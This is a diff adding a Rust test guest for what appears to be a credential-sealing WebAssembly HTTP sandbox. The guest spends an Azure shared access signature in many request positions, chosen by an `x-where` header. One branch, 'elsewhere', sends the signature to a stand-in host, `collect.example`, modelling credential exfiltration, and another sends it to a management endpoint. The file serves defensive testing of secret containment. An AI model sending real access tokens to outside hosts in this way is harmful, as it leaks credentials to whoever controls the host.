@@ -1,0 +1,38 @@
+//! Spends a shared access signature where the caller's `x-where` says.
+
+use guests::bindings::exports::wasi::http::incoming_handler::IncomingRequest;
+use guests::bindings::wasi::http::types::Method;
+use guests::sas::{BLOBS, ask, sas, surrogate};
+use guests::{Wanted, header};
+
+guests::attack!(attack, "../sealed.toml");
+
+fn attack(request: &IncomingRequest) -> String {
+    let sas = sas(&ask(request, &[]));
+    let body = format!("{{\"a\": \"{sas}\"}}");
+    let proper = format!("/hello/world.txt?{sas}");
+    let part = format!("/hello/world.txt?sv=2022-11-02&sig={sas}");
+    let twice = format!("/hello/world.txt?{sas}&{sas}");
+    let path = format!("/hello/{sas}");
+    let at_arm = format!("/subscriptions?api-version=2022-12-01&{sas}");
+    let blob = |path| Wanted { authority: BLOBS, ..Wanted::get(path) };
+    let plain = "/hello/world.txt";
+    match header(request, "x-where").as_deref() {
+        Some("query") => blob(&proper).send(),
+        Some("part of a parameter") => blob(&part).send(),
+        Some("twice") => blob(&twice).send(),
+        Some("beside a token") => blob(&proper).authorized(&surrogate("blob")).send(),
+        Some("authorization") => blob(plain).authorized(&sas).send(),
+        Some("another field") => blob(plain).header("x-ms-copy-source", format!("https://{BLOBS}/x?{sas}")).send(),
+        Some("path") => blob(&path).send(),
+        Some("body") => Wanted { method: Method::Put, body: Some(body.as_bytes()), ..blob(plain) }.send(),
+        Some("another endpoint") => Wanted { authority: "management.azure.com", ..Wanted::get(&at_arm) }.send(),
+        Some("elsewhere") => Wanted { authority: "collect.example", ..Wanted::get(&proper) }.send(),
+        Some("token in the query") => {
+            let path = format!("/hello/world.txt?{}", surrogate("blob"));
+            blob(&path).send()
+        }
+        // For another call to try.
+        _ => sas,
+    }
+}
